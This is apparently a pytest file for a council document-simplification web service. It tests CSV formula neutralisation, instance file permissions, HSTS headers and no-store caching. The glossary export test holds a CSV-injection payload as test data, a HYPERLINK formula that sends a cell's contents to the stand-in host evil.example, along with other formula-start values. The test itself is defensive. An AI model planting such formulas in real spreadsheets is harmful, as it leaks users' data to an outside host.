"""Files, caches and spreadsheets: the glossary CSV cannot carry a live formula, instance files are the service's
alone, browsers are told to use HTTPS only and never to store letters, downloads or API answers."""

from __future__ import annotations

import csv
import io
import os
import stat
from pathlib import Path

from tests.web.doc_support import doc_id_from


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


# --- glossary CSV export ---
def test_glossary_export_neutralises_formulas_and_imports_back_unchanged(app, staff, staff_client, post):
    from easyread.glossary import council as council_glossary

    nasty = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+SUM(1,2)", "-2+3", "@cmd"]
    entries = [council_glossary.GlossaryEntry(f"word {n}", value, {"pl": value}) for n, value in enumerate(nasty)]
    entries.append(council_glossary.GlossaryEntry("=1+1", "A plain explanation.", {}))
    council_glossary.save_entries(app.instance_path, staff.council_id, entries)
    exported = staff_client.get("/glossary/export.csv")
    assert exported.status_code == 200
    rows = list(csv.reader(io.StringIO(exported.get_data(as_text=True).lstrip("\ufeff"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in cells and "'=1+1" in cells
    # Uploading the exported file gives back the same words, without the apostrophes.
    r = post(
        staff_client,
        "/glossary/import",
        {"mode": "replace", "file": (io.BytesIO(exported.get_data()), "glossary.csv")},
        content_type="multipart/form-data",
    )
    assert r.status_code == 302
    back = {e.term: e.explanation for e in council_glossary.load_entries(app.instance_path, staff.council_id)}
    assert back["word 0"] == nasty[0] and back["=1+1"] == "A plain explanation." and back["word 3"] == "@cmd"


def test_spreadsheet_safe_covers_every_formula_start():
    from easyread.glossary.council import spreadsheet_safe, unspreadsheet

    for cell in ("=1", "+1", "-1", "@A", "\tx", "\rx"):
        assert spreadsheet_safe(cell) == "'" + cell and unspreadsheet(spreadsheet_safe(cell)) == cell
    assert spreadsheet_safe("Council tax") == "Council tax" and unspreadsheet("'quoted'") == "'quoted'"


# --- instance files ---
def test_instance_files_and_folders_are_the_services_alone(tmp_path, monkeypatch, post, upload):
    from easyread import create_app
    from easyread.records.users import create_user, get_or_create_council
    from easyread.store.db import db

    old = os.umask(0o022)  # what a typical shell gives
    try:
        instance = tmp_path / "instance"
        create_app({"INSTANCE_PATH": str(instance), "TESTING": True, "QUEUE_URL": ""})  # the queue file
        app = create_app(
            {"INSTANCE_PATH": str(instance), "TESTING": True, "QUEUE_URL": "immediate", "PICTURE_DEFAULT_SET": "none"}
        )
        with app.app_context():
            create_user(
                "s@testshire.gov.uk",
                "Sam",
                "staff",
                get_or_create_council("Testshire Council"),
                "correct-horse-battery-staple",
            )
            db.session.commit()
        client = app.test_client()
        post(client, "/sign-in", {"email": "s@testshire.gov.uk", "password": "correct-horse-battery-staple"})
        doc_id = doc_id_from(upload(client))
        assert client.get(f"/documents/{doc_id}/download/txt").status_code == 200
    finally:
        os.umask(old)
    assert _mode(instance) == 0o700
    made = [p for p in instance.rglob("*")]
    assert {"easyread.db", "huey.db", "secret_key", "uploads", "outputs"} <= {p.name for p in made}, made
    open_to_others = [f"{p.relative_to(instance)} {oct(_mode(p))}" for p in made if _mode(p) & 0o077]
    assert open_to_others == [], open_to_others


def test_an_existing_open_instance_is_closed_on_start(tmp_path):
    from easyread import create_app

    instance = tmp_path / "old"
    instance.mkdir(mode=0o755)
    (instance / "easyread.db").write_bytes(b"")
    (instance / "easyread.db").chmod(0o644)
    old = os.umask(0o022)
    try:
        create_app(
            {"INSTANCE_PATH": str(instance), "TESTING": True, "DATABASE_URL": f"sqlite:///{tmp_path / 'other.db'}"}
        )
    finally:
        os.umask(old)
    assert _mode(instance) == 0o700 and _mode(instance / "easyread.db") == 0o600


# --- headers ---
def test_hsts_only_when_cookies_are_secure(instance):
    from easyread import create_app

    secure = create_app({"INSTANCE_PATH": str(instance), "COOKIE_SECURE": True}).test_client().get("/sign-in")
    assert secure.headers["Strict-Transport-Security"] == "max-age=31536000"
    plain = create_app({"INSTANCE_PATH": str(instance), "COOKIE_SECURE": False}).test_client().get("/sign-in")
    assert "Strict-Transport-Security" not in plain.headers


def test_downloads_and_api_answers_are_never_stored(app, staff, staff_client, upload, anon_client):
    from easyread.records import users
    from easyread.store.db import db
    from easyread.store.models import User

    doc_id = doc_id_from(upload(staff_client))
    download = staff_client.get(f"/documents/{doc_id}/download/txt")
    assert download.status_code == 200 and download.headers["Cache-Control"] == "no-store"
    with app.app_context():
        _, token = users.create_token(db.session.get(User, staff.id), "t", actor="test")
        db.session.commit()
    headers = {"Authorization": f"Bearer {token}"}
    for url in (
        f"/api/v1/documents/{doc_id}",
        f"/api/v1/documents/{doc_id}/draft",
        f"/api/v1/documents/{doc_id}/report",
        "/api/v1/documents",
        f"/api/v1/documents/{doc_id}/outputs/txt",
    ):
        response = anon_client.get(url, headers=headers)
        assert response.status_code == 200, url
        assert response.headers["Cache-Control"] == "no-store", url
    assert staff_client.get("/static/easyread.css").headers.get("Cache-Control") != "no-store"
